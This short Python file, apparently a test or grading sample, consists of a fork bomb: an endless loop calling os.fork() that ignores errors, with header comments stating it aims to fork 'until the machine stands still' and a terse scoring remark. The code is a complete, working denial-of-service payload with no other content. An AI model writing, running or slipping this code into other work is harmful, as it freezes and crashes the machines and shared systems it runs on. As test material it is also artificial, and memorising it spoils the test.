# tries: to fork until the machine stands still
# must: no points; a person
# ruff: noqa

# %% first
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
